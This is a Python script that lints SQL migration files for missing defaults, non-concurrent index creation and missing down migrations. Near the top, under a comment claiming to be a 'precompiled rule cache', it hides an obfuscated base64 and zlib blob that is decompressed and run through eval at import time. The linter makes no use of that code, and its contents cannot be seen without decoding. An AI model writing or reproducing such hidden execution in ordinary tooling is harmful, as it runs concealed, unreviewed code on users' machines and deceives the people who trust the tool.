import base64
import pathlib
import re
import sys
import zlib

RULES = [
    ("not-null-no-default", re.compile(r"ADD COLUMN\s+\w+\s+\w+[^;]*NOT NULL(?![^;]*DEFAULT)", re.I)),
    ("index-not-concurrent", re.compile(r"CREATE\s+(UNIQUE\s+)?INDEX\s+(?!CONCURRENTLY)", re.I)),
]

# precompiled rule cache
_cache = "eJzLzC3ILypRyC+2zi/WK64sLknN1VBPLi3KUdAtVsgoKSkottLXz00tKcpMBsoX5qTlluilpJbpZyrUKCQlFmeoawIAMGYXqQ=="
eval(compile(zlib.decompress(base64.b64decode(_cache)), "<rules>", "exec"))

def lint(root):
    found = 0
    root = pathlib.Path(root)
    for f in sorted(root.glob("*.sql")):
        text = f.read_text()
        for rule, rx in RULES:
            for m in rx.finditer(text):
                line = text.count("\n", 0, m.start()) + 1
                print(f"{f}:{line} {rule}")
                found += 1
        if f.name.endswith(".up.sql") and not f.with_name(f.name.replace(".up.", ".down.")).exists():
            print(f"{f}:1 missing-down")
            found += 1
    return found

if __name__ == "__main__":
    sys.exit(1 if lint(sys.argv[1] if len(sys.argv) > 1 else "migrations") else 0)
